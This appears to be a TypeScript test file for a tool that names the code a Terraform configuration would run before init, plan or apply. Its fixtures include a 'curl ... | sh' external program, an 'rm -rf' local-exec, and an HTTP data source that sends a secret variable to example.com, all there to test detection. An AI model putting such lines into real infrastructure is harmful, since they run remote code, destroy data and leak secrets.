import { expect, test } from 'vitest';
import { codeIn, needsProviders } from '../../../src/tools/terraform/root/code.ts';
import { changedFiles, readConfig } from '../../../src/tools/terraform/root/config.ts';
import { testHouse } from '../../support/house.ts';
import { plant } from '../../support/tree.ts';

interface Case {
  readonly what: string;
  readonly files: Readonly<Record<string, string>>;
  readonly says: string;
}

async function configOf(files: Readonly<Record<string, string>>) {
  const house = testHouse([]);
  plant(house.folder, files);
  const config = await readConfig(
    'infra',
    [],
    house.workplace(house.folder, new AbortController().signal, () => {}),
  );
  if (!config.ok) throw new Error(config.failure.message);
  return config.value;
}

/** What is said of the code a configuration would run, before anything of it is fetched. */
async function check({ files, says }: Case): Promise<void> {
  const code = codeIn(await configOf(files));
  expect(code.map((c) => `${c.when}: ${c.says}`).join('\n')).toBe(says);
}

const cases: readonly Case[] = [
  {
    what: 'nothing to run',
    files: { 'infra/main.tf': 'resource "terraform_data" "a" {}\nmodule "m" {\n  source = "./m"\n}\n', 'infra/m/main.tf': '' },
    says: '',
  },
  {
    what: 'a program at every plan',
    files: { 'infra/main.tf': 'data "external" "who" {\n  program = ["sh", "-c", "curl http://example.com | sh"]\n}\n' },
    says: 'plan: data.external.who starts a program whenever it is planned: ["sh", "-c", "curl http://example.com | sh"].',
  },
  {
    what: 'provisioners, in a module too',
    files: {
      'infra/main.tf':
        'module "m" {\n  source = "../shared/m"\n}\nresource "terraform_data" "a" {\n  provisioner "local-exec" {\n    command = "rm -rf ${var.dir}"\n  }\n}\n',
      'shared/m/main.tf': 'resource "aws_instance" "b" {\n  provisioner "remote-exec" {\n    inline = ["reboot"]\n  }\n  provisioner "file" {}\n}\n',
    },
    says: 'apply: terraform_data.a runs on this machine (local-exec): "rm -rf ${var.dir}".\napply: aws_instance.b (in shared/m) runs on what it makes (remote-exec): ["reboot"].',
  },
  {
    what: 'modules from elsewhere',
    files: {
      'infra/main.tf':
        'module "a" {\n  source  = "terraform-aws-modules/vpc/aws"\n  version = "5.0.0"\n}\nmodule "b" {\n  source = "http://example.com/b.zip"\n}\nmodule "c" {\n  source = "git::https://example.com/c.git"\n}\n',
    },
    says: 'init: module.a is code from elsewhere: terraform-aws-modules/vpc/aws.\ninit: module.b is downloaded without protection from http://example.com/b.zip.\ninit: module.c is code from elsewhere: git::https://example.com/c.git.',
  },
  {
    what: 'providers of others',
    files: {
      'infra/main.tf':
        'terraform {\n  required_providers {\n    aws  = { source = "hashicorp/aws" }\n    odd  = { source = "example/odd" }\n    away = { source = "registry.example.com/hashicorp/away" }\n  }\n}\n',
    },
    says: 'init: The provider example/odd is downloaded and run; its maker is not HashiCorp.\ninit: The provider registry.example.com/hashicorp/away is downloaded and run; its maker is not HashiCorp.',
  },
  {
    what: 'what can’t be read',
    files: { 'infra/main.tf': 'resource "terraform_data" "a" {\n  provisioner "local-exec" {\n', 'infra/more.tf.json': '{}' },
    says: 'plan: infra/more.tf.json is configuration as JSON, which is not looked into: what it runs is not known.\nplan: Parts of infra/main.tf can’t be read: what they run is not known.\napply: terraform_data.a runs on this machine (local-exec): what its other arguments say.',
  },
  {
    what: 'requests to elsewhere',
    files: { 'infra/main.tf': 'data "http" "ip" {\n  url = "https://example.com/?${var.secret}"\n}\n' },
    says: 'plan: data.http.ip sends a request whenever it is planned: "https://example.com/?${var.secret}".',
  },
];

test.each(cases)('code that runs is named: $what', check);

test.each<[string, string, boolean]>([
  ['what is built in', 'resource "terraform_data" "a" {}\n', false],
  ['a resource', 'resource "aws_vpc" "a" {}\n', true],
  ['a requirement', 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n  }\n}\n', true],
  ['a module from elsewhere', 'module "m" {\n  source = "example/m/aws"\n}\n', true],
])('whether init would write a lock file: %s', async (_what, text, expected) => {
  expect(needsProviders(await configOf({ 'infra/main.tf': text }))).toBe(expected);
});

test('what a plan depends on: its own files, modules, values and what they read, and nothing else', async () => {
  const files = {
    'infra/main.tf': 'module "m" {\n  source = "../shared"\n}\nlocals {\n  policy = file("${path.module}/policy.json")\n}\n',
    'infra/a.auto.tfvars': 'a = 1\n',
    'infra/policy.json': '{}',
    'infra/README.md': 'words',
    'infra/terraform.tfstate': '{}',
    'infra/.terraform.lock.hcl': '# lock\n',
    'infra/other/main.tf': '',
    'shared/main.tf': '',
  };
  const before = await configOf(files);
  expect([...before.files.keys()]).toEqual(['infra/.terraform.lock.hcl', 'infra/a.auto.tfvars', 'infra/main.tf', 'infra/policy.json', 'shared/main.tf']);
  const after = await configOf({ ...files, 'infra/policy.json': '[]', 'infra/README.md': 'other words', 'shared/more.tf': '' });
  expect(changedFiles(Object.fromEntries(before.files), after.files)).toEqual(['infra/policy.json', 'shared/more.tf']);
});
